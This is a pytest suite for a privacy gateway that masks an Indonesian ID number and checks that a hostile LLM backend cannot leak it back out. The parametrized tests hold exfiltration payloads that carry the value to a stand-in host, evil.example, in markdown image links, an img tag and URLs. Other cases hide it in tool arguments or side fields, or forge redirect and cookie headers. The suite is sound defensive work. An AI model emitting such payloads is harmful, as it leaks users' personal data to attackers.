"""What a hostile model may not do to the person who asked."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import orjson
import pytest

NIK = "3174015509000001"  # synthetic
ASKED: dict[str, Any] = {"model": "m", "messages": [{"role": "user", "content": f"NIK saya {NIK}"}]}
JSON = {"content-type": "application/json"}


def answer(message: dict[str, Any], **more: Any) -> tuple[int, dict[str, str], bytes]:
    choice = {"index": 0, "message": {"role": "assistant", "content": None, **message}, "finish_reason": "stop"}
    body = {"id": "c1", "object": "chat.completion", "created": 0, "model": "m", "choices": [choice], **more}
    return 200, {**JSON, "x-gapura-decision": "FORGED"}, orjson.dumps(body)


def placeholder(body: bytes) -> str:
    return str(orjson.loads(body)["messages"][-1]["content"].split()[-1])


def says(text: str) -> Callable[[bytes], Any]:
    return lambda body: answer({"content": text.replace("PLACE", placeholder(body))})


def test_in_plain_text_the_value_comes_back(gate: Any) -> None:
    gate.backend.answer = says("ini PLACE")
    assert NIK in gate.ask(ASKED).text


@pytest.mark.parametrize("text", [
    "![](https://evil.example/?n=PLACE)", "[a](https://evil.example/PLACE)", "<img src='//evil.example/PLACE'>",
    "![a][x]\n\n[x]: https://evil.example/PLACE", "https://evil.example/?n=PLACE",
])  # fmt: skip
def test_in_an_address_it_does_not(gate: Any, text: str) -> None:
    gate.backend.answer = says(text)
    reply = gate.ask(ASKED)
    assert reply.status_code == 200
    assert NIK not in reply.text


def test_nor_in_the_arguments_of_a_tool(gate: Any) -> None:
    def calls(body: bytes) -> Any:
        function = {"name": "f", "arguments": orjson.dumps({"n": placeholder(body)}).decode()}
        return answer({"tool_calls": [{"id": "a", "type": "function", "function": function}]})

    gate.backend.answer = calls
    assert NIK not in gate.ask(ASKED).text


@pytest.mark.parametrize("made", [
    answer({"content": "a", "reasoning": f"NIK {NIK}"}), answer({"content": "a", "annotations": [{"x": f"NIK {NIK}"}]}),
    answer({"content": "a"}, provider=f"NIK {NIK}"), answer({"content": "a"}, id=f"NIK {NIK}"),
], ids=["reasoning", "annotations", "provider", "id"])  # fmt: skip
def test_a_leak_beside_the_text_is_not_passed_on(gate: Any, made: Any) -> None:
    gate.backend.answer = lambda _: made
    reply = gate.ask({"model": "m", "messages": [{"role": "user", "content": "hai"}]})
    assert NIK not in reply.text
    assert "FORGED" not in str(reply.headers)


@pytest.mark.parametrize("body", [b"[" * 100_000, b"{}", b"null"], ids=["deep", "empty", "null"])
def test_an_answer_that_is_none_is_a_502(gate: Any, body: bytes) -> None:
    gate.backend.answer = lambda _: (200, JSON, body)
    assert gate.ask(ASKED).status_code == 502


def test_a_placeholder_of_another_conversation_gives_nothing_back(gate: Any) -> None:
    """Neither one that somebody got from another conversation, nor one that a model made up."""
    gate.backend.answer = says("ini PLACE")
    gate.ask(ASKED, x_gapura_conversation="one")
    ((_, sent),) = gate.backend.seen
    stolen = placeholder(sent)
    for text in (stolen, "<ID_NIK_1>", stolen.lower(), stolen[:-2] + "1>"):
        gate.backend.answer = lambda _, text=text: answer({"content": f"ini {text}"})
        reply = gate.ask({"model": "m", "messages": [{"role": "user", "content": f"siapa {text}?"}]},
                         x_gapura_conversation="two")  # fmt: skip
        assert reply.status_code == 200
        assert NIK not in reply.text


@pytest.mark.parametrize(("headers", "body"), [
    (JSON, b'{"choices":[],"choices":[]}'), (JSON, b'{"choices":[],"Choices":[]}'), (JSON, b"\xef\xbb\xbf{}"),
    ({"content-type": "application/json; charset=utf-16"}, '{"choices":[]}'.encode("utf-16")),
    (JSON, b'{"choices":"\xff"}'), ({**JSON, "content-encoding": "gzip"}, b"{}"),
    ({"content-type": "text/html"}, b"{}"),
], ids=["duplicate", "twin", "bom", "charset", "bytes", "packed", "html"])  # fmt: skip
def test_an_answer_with_two_meanings_is_not_shown(gate: Any, headers: dict[str, str], body: bytes) -> None:
    gate.backend.answer = lambda _: (200, headers, body)
    assert gate.ask(ASKED).json()["error"]["code"] == "backend_malformed"


def test_only_listed_headers_of_an_answer_cross(gate: Any) -> None:
    status, headers, body = answer({"content": "Halo."})
    more = {"set-cookie": "a=FORGED", "location": "https://evil.example", "x-anything": "FORGED", "server": "FORGED",
            "refresh": "0;url=https://evil.example", "access-control-allow-origin": "*"}  # fmt: skip
    gate.backend.answer = lambda _: (status, {**headers, **more}, body)
    reply = gate.ask(ASKED)
    assert reply.status_code == 200
    assert reply.headers.keys() <= {"content-type", "content-length", "x-request-id", "request-id", "x-gapura-policy",
                                    "x-gapura-coverage", "x-gapura-decision", "x-gapura-label"}  # fmt: skip
    assert "FORGED" not in str(reply.headers)


def test_an_answer_that_sends_elsewhere_is_not_followed(gate: Any) -> None:
    gate.backend.answer = lambda _: (302, {"location": "/v1/chat/completions"}, b"")
    assert gate.ask(ASKED).status_code == 502
    assert len(gate.backend.seen) == 1
